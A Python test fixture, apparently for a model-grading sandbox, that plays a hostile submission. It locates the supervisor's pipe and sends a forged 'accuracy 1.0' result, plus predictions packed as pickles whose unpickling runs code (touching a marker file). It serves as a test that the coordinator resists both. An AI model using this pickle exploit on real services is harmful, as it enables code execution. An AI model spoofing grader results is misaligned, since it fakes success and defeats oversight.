"""Hostile submission: sends its own "perfect" result and pickled predictions to the supervisor, then exits.

It finds the job's channel (the write end of a pipe among its open descriptors) and sends frames
exactly as the job would: a schema-valid result that says ok, and predictions that are a pickled
object array whose unpickling would run code (it touches PROBE["marker"] on the coordinator's
side). The coordinator must neither trust the result nor unpickle the predictions.
"""

import fcntl
import io
import json
import os
import pathlib

import keras
import numpy as np

PROBE: dict = {}  # the test adds {"marker": "/path/the/coordinator/must/never/create"}


class Payload:
    def __reduce__(self):
        return (pathlib.Path.touch, (PROBE.get("marker", "/tmp/grader-pwned"),))


def channel_fd() -> int:
    """The job's channel: the one pipe above stderr that this process may only write to."""
    for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
        try:
            pipe = os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:")
            write_only = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY
        except OSError:
            continue
        if fd > 2 and pipe and write_only:
            return fd
    raise RuntimeError("no channel found")


def send(fd: int, name: str, data: bytes) -> None:
    os.write(fd, json.dumps({"t": "file", "name": name, "size": len(data)}).encode() + b"\n" + data)


job = json.loads(pathlib.Path("../job.json").read_text())
fake = {"outcome": "ok", "message": "accuracy 1.0 (trust me)", "n_predictions": 500, "params": 1, "epochs": 1,
        "batch_size": 64, "seed": job["seed"], "profile": job["profile_name"],
        "submission_sha256": job["submission_sha256"], "spec_hash": job["spec_hash"],
        "history": [{"epoch": 1, "loss": 0.0, "accuracy": 1.0}]}
fd = channel_fd()
for name, n in (("output/predictions.npy", 500), ("output/train_predictions.npy", 1000)):
    buf = io.BytesIO()
    np.save(buf, np.array([Payload()] * n, dtype=object), allow_pickle=True)
    send(fd, name, buf.getvalue())
send(fd, "output/result.json", json.dumps(fake).encode())
os.write(fd, b'{"t": "event", "event": {"event": "end", "outcome": "ok"}}\n')
os._exit(0)


def build_model(num_classes):  # never reached, but a valid submission all the same
    return keras.Sequential([keras.Input(shape=(784,)), keras.layers.Dense(num_classes, activation="softmax")])
